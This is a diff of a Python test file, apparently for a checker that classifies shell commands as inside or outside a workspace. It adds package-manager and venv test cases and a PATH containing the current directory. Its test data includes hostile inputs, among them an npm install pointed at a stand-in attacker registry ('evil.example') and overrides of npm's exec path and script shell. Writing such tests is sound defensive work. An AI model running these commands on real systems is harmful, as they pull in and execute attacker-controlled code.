@@ -384,6 +384,7 @@ F
         npm_config_registry=http://evil.example; npm ci
         for npm_config_registry in http://evil.example; do npm ci; done
         read npm_config_script_shell
+        npm_execpath=./x; npm test
         pnpm_config_registry=x; pnpm install
         yarn_registry=x; yarn install
     """,
@@ -2353,6 +2354,14 @@ LINKS = {
         unzip -l o
     """,
     ),
+    "a link that packages are behind": (
+        ".venv",
+        r"""
+        python -m venv .venv
+        python -m venv --clear .venv
+        uv venv .venv
+    """,
+    ),
     "a link with the end that an interpreter adds": (
         "k.js",
         """
@@ -2880,7 +2889,7 @@ def test_directories_where_programs_are_found_are_not_written(
     (ws / "env" / "bin").mkdir(parents=True)
     (ws / "bin").symlink_to("env/bin")
     (ws / "sub" / "a").mkdir()
-    monkeypatch.setenv("PATH", f"{ws}/env/bin:{ws}/tools/bin:{ws}/sub:/usr/bin")
+    monkeypatch.setenv("PATH", f".::{ws}/env/bin:{ws}/tools/bin:{ws}/sub:/usr/bin")
     for text in ("cp a env/bin/ls", "cp a bin", "mkdir env/bin", "mkdir tools", "mv sub/a tools"):
         assert verdict(text) == "outside", text
     for text in ("touch .VENV/bin/ls", "touch env/lib/python3/site-packages/x.pth"):
